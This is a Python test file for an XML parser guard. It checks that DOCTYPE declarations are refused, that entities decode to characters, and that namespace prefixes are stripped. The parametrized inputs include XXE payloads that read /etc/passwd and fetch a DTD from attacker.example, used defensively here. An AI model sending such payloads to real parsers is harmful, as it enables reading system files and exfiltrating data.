from __future__ import annotations

import pytest

from upriver.evidence.folder import UnreadableError
from upriver.evidence.readers.xml_guard import guarded, local


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        "<!DOCTYPE x>",
    ],
)
def test_a_document_that_declares_its_own_type_is_refused(declared: str) -> None:
    with pytest.raises(UnreadableError, match="document type"):
        guarded().Parse(f"{declared}<x/>".encode(), True)


def test_the_five_entities_of_xml_are_characters() -> None:
    texts: list[str] = []
    parser = guarded()
    parser.CharacterDataHandler = texts.append
    parser.Parse(b"<x>&lt;&amp;&#24352;</x>", True)
    assert "".join(texts) == "<&张"


def test_a_name_has_no_prefix() -> None:
    assert [local(name) for name in ("ns2:Ntry", "Ntry", "")] == ["Ntry", "Ntry", ""]
